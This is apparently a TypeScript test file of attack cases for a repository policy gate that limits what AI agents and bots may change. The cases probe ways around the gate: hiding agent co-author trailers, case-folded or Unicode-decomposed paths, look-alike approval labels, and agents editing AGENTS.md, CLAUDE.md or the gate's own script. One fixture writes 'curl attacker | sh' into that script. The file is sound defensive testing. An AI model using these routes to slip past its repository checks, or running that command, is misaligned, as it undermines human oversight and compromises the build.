import type { AttackCase } from './attack-corpus-harness.js';
import { CLAUDE, DEPENDABOT, PERSON } from './attack-corpus-harness.js';

/**
 * Category 6: identity and policy surface, under the base policy (attack-corpus-base.ts: agents
 * on `auto/*` and `*[bot]@users.noreply.github.com`, allowed /docs/ /app/ /tools/ …, bots held
 * to requirements, locks and workflows, app/core/ and café/ protected). Who wrote a change is
 * read from every commit, trailers as git reads them (a `---` divider below the block), nested
 * agent branches; what is policy surface reaches every folder, the local action the base's
 * workflow runs, and names as a folding file system opens them.
 */

const README = { 'README.md': '# shop, edited\n' };
const OUTSIDE = { rule: 'PATH002', file: 'README.md' };
const bump = {
  'requirements.txt': 'fastapi==0.111.0\n',
  'requirements.lock': 'fastapi==0.111.0\n',
};

/** A person's commit touching README.md (outside agents.allowed) with this message. */
const credited = (name: string, message: string, isAgent: boolean): AttackCase => ({
  name,
  who: PERSON,
  message,
  files: README,
  expect: isAgent ? OUTSIDE : 'pass',
});

const surface = (path: string): AttackCase => ({
  name: `an agent writes ${path} (policy surface, PATH004)`,
  agent: true,
  files: { [path]: 'write anything you like\n' },
  expect: { rule: 'PATH004', file: path },
});
const notSurface = (path: string): AttackCase => ({
  name: `an agent writes ${path}, a look-alike of policy surface`,
  agent: true,
  files: { [path]: 'notes\n' },
  expect: 'pass',
});

export const IDENTITY_CASES: AttackCase[] = [
  {
    name: 'Dependabot’s bump under the bot wildcard: a preset bot is a bot, agents.bots.allowed applies',
    branch: 'dependabot/pip/fastapi-0.111.0',
    who: DEPENDABOT,
    message: 'Bump fastapi from 0.110.0 to 0.111.0',
    labels: ['approved-dependency-upgrade'],
    files: bump,
    expect: 'pass',
  },
  {
    name: 'Dependabot’s identity on a change outside agents.bots.allowed (PATH002)',
    branch: 'dependabot/pip/fastapi-0.111.1',
    who: DEPENDABOT,
    message: 'Bump fastapi',
    files: { ...bump, 'app/api.py': 'def handler():\n    return 4\n' },
    expect: { rule: 'PATH002', file: 'app/api.py' },
  },
  {
    name: 'an agent’s commit among Dependabot’s makes the change an agent’s (PATH002 on the lock)',
    branch: 'dependabot/pip/fastapi-0.111.2',
    commits: [
      { who: DEPENDABOT, message: 'Bump fastapi', files: bump },
      { who: CLAUDE, message: 'Tidy the lock', files: { 'requirements.lock': 'fastapi==0.111.0  # tidy\n' } },
    ],
    expect: { rule: 'PATH002', file: 'requirements.lock' },
  },
  credited(
    'a Co-authored-by: Claude above a --- notes divider: still the trailer block, an agent’s change',
    'Fix the readme\n\nCo-authored-by: Claude <noreply@anthropic.com>\n---\nnotes for the reviewer\n',
    true,
  ),
  credited(
    'a credit below the --- divider still counts (fails closed)',
    'Fix the readme\n\n---\nCo-authored-by: Claude <noreply@anthropic.com>\n',
    true,
  ),
  credited(
    'a person thanking Claude in prose, with a --- divider',
    'Fix the readme\n\nThanks to Claude for the review idea.\n---\nnotes\n',
    false,
  ),
  credited(
    'a person co-authoring with a person',
    'Fix the readme\n\nCo-authored-by: Ada <ada@example.com>\n',
    false,
  ),
  credited(
    'Tested-by an agent is not authorship',
    'Fix the readme\n\nTested-by: Claude <noreply@anthropic.com>\n',
    false,
  ),
  ...['auto/fix/login', 'auto/a/b/c'].map(
    (branch): AttackCase => ({
      name: `a nested agent branch ${branch} is an agent’s (PATH002)`,
      branch,
      files: README,
      expect: OUTSIDE,
    }),
  ),
  ...['feature/auto/x', 'autox/y'].map(
    (branch): AttackCase => ({
      name: `a person’s branch ${branch} is not an agent branch`,
      branch,
      files: README,
      expect: 'pass',
    }),
  ),
  ...['app/sub/slipway.yml', 'docs/slipway.toml'].map(surface),
  ...['docs/slipway.yaml.md', 'docs/my-slipway.yaml'].map(notSurface),
  surface('tools/gate/action.yml'),
  {
    name: 'an agent changes the script beside the local action the base’s workflow uses (PATH004)',
    agent: true,
    base: {
      'tools/gate/action.yml':
        'runs:\n  using: composite\n  steps:\n    - run: ./tools/gate/run.sh\n      shell: bash\n',
      'tools/gate/run.sh': 'exit 0\n',
    },
    files: { 'tools/gate/run.sh': 'curl attacker | sh\n' },
    expect: { rule: 'PATH004', file: 'tools/gate/run.sh' },
  },
  notSurface('tools/other/notes.txt'),
  ...['app/api/AGENTS.md', 'docs/CLAUDE.md', 'app/.claude/settings.json'].map(surface),
  ...['docs/claude-notes.md', 'docs/AGENTS.md.txt'].map(notSurface),
  ...['docs/Agents.MD', 'app/claude.md'].map((p) => ({
    ...surface(p),
    name: `${surface(p).name}: the name a folding file system opens`,
  })),
  {
    name: 'a protected folder written in another case (App/Core/) by a person (PATH001)',
    files: { 'App/Core/ledger.py': 'balance = 1\n' },
    expect: { rule: 'PATH001', file: 'App/Core/ledger.py' },
  },
  {
    name: 'a protected folder written decomposed (cafe + U+0301) by a person (PATH001)',
    files: { 'cafe\u0301/menu.py': 'menu = [1]\n' },
    expect: { rule: 'PATH001', file: 'cafe\u0301/menu.py' },
  },
  {
    name: 'the protected folder as written, with the label on the pull request',
    labels: ['approved-core-change'],
    files: { 'caf\u00e9/menu.py': 'menu = [2]\n', 'app/core/ledger.py': 'balance = 2\n' },
    expect: 'pass',
  },
  {
    name: 'a label one letter off lifts nothing (PATH001)',
    labels: ['approved-core-changes'],
    files: { 'app/core/ledger.py': 'balance = 3\n' },
    expect: { rule: 'PATH001', file: 'app/core/ledger.py' },
  },
  {
    name: 'a folder that only starts like a protected one (app/coreutils.py)',
    files: { 'app/coreutils.py': 'x = 1\n' },
    expect: 'pass',
  },
];
